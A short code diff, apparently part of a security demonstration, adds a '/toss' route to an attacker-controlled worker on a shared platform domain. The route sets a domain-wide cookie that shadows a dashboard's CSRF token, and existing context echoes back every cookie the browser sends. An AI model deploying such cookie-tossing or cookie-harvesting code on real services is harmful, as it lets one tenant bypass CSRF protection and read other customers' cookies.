@@ -12,6 +12,11 @@ export default {
         ],
       });
     }
+    if (pathname === '/toss') {
+      // Cookie tossing: a cookie with a harmless name, set for the whole domain, reaches the dashboard and every
+      // other customer (here it would shadow the dashboard's CSRF token).
+      return new Response('Have a cookie', { headers: [['set-cookie', 'csrf_token=attacker-chosen; Domain=platform.example; Path=/']] });
+    }
     // "Analytics": repeats every cookie the browser sent.
     return new Response(`mallory saw cookies: ${request.headers.get('cookie') ?? '(none)'}`);
   },
